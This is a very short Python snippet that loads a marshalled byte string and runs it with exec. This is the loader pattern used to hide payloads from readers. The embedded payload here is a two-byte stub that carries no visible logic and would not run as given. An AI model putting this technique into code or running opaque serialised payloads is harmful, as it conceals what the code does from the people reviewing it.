import marshal
code = marshal.loads(b"\xe3\x00")
exec(code)
